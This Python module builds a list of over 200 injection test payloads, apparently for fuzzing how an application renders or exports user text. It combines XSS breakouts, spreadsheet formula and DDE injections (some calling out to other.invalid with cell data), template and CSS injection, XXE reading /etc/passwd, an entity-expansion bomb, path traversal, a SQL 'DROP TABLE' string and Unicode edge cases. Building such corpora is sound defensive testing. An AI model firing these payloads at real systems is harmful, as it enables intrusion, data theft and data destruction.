"""What somebody might write to do harm through a page: made by rules, so that each way out is tried with each thing to do."""

from __future__ import annotations

from itertools import product

_WAYS_OUT = ("", '">', "'>", "</title>", "</style>", "</p></section>", "-->", "]]>", '"/></svg>')
_TO_DO = (
    "<script>window.ran=1</script>",
    "<img src=x onerror=window.ran=1>",
    "<svg/onload=window.ran=1>",
    '<iframe srcdoc="<script>parent.ran=1</script>"></iframe>',
    '<a href="javascript:window.ran=1">see</a>',
    '<meta http-equiv=refresh content="0;url=//other.invalid">',
    '<link rel=stylesheet href="//other.invalid/x.css"><base href="//other.invalid/">',
)
_STARTS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "＝", "＋", "－", "＠", "a;=", "'=", '"=', "\u200b=", "\u00a0=")
_FORMULAS = ("1+1", 'HYPERLINK("http://other.invalid?"&A1,"see")', "cmd|' /C calc'!A0", 'WEBSERVICE("http://other.invalid")')
_TEMPLATES = (
    "{{ 7 * 7 }}",
    "{% raw %}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{n} {missing}",
    "%s %(n)s",
    "{0.__class__.__mro__}",
    "{{ page }}",
)
_STYLES = (
    "} body { display: none } /*",
    "@import url(//other.invalid/x.css);",
    'a"; } @page { size: 1px } b { c: "',
    "\\22 ; } * { color: red",
    "x: expression(window.ran=1)",
    "background: url(javascript:window.ran=1)",
    "<!-- /* --> */",
)
_XML = (
    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    '<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]><l>&c;</l>',
    "<![CDATA[ in ]]> out ]]>",
    "&lt;b&gt; &amp;amp; &#0; &#x1F; &quot;",
    "_x0041_ _x000D_",
    "</w:t></w:r><w:r><w:instrText>DDEAUTO cmd</w:instrText></w:r>",
    '</t></si><si><f>HYPERLINK("http://other.invalid")</f>',
    "</worksheet><x:script/>",
    "<xi:include href='file:///etc/passwd'/>",
)
_FIELDS = (
    'HYPERLINK "http://other.invalid"',
    'INCLUDETEXT "C:\\\\secret.txt"',
    "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe",
    "&G&[Picture] &Z&F",
    ") /JS (app.alert(1)) /S /JavaScript (",
    "<< /Launch /F (cmd.exe) >>",
    "endstream endobj 9 0 obj",
    "\\u0000\\x00\\r\\n",
    "name\r\nContent-Type: text/html\r\n\r\n<b>",
    "../../../../etc/passwd",
    "C:\\con\\nul",
    "| calc.exe",
    "'; DROP TABLE theme; --",
    "{\\rtf1\\object}",
)
_DIRECTIONS = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
_UNSEEN = "\0\x01\x07\x08\x0b\x0c\x1b\x1f\x7f\x85\xad\u200b\u200c\u200d\u2028\u2029\ufeff\ufffe\uffff\ufdd0\U000e0041\ufff9"
_HALVES = ("a\ud800", "\udfffb", "a\udc80b")
_LONG = ("w" * 10_000, "ش" * 10_000, "灯" * 10_000, "👩\u200d👩\u200d👧" * 500, "a" + "\u0308" * 1_000, "<b>" * 2_000, "=" * 5_000)
_SIGNS = ("👩🏽\u200d🚒", "🏴\U000e0067\U000e0062\U000e007f", "🇺🇳", "3️⃣", "﷽", "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!", "ﬀ ﬁ ſ K Å", "‟quoted‘", "“”«»")

PAYLOADS: tuple[str, ...] = tuple(
    dict.fromkeys(
        (
            *(out + do for out, do in product(_WAYS_OUT, _TO_DO)),
            *(start + formula for start, formula in product(_STARTS, _FORMULAS)),
            *_TEMPLATES,
            *_STYLES,
            *_XML,
            *_FIELDS,
            *(f"report{sign}fdp.exe" for sign in _DIRECTIONS),
            *(f"la{sign}mp" for sign in _UNSEEN),
            *_HALVES,
            *_LONG,
            *_SIGNS,
        )
    )
)
"""More than 200, each another one. Some hold signs that no file can hold: of those, what is left reads on."""
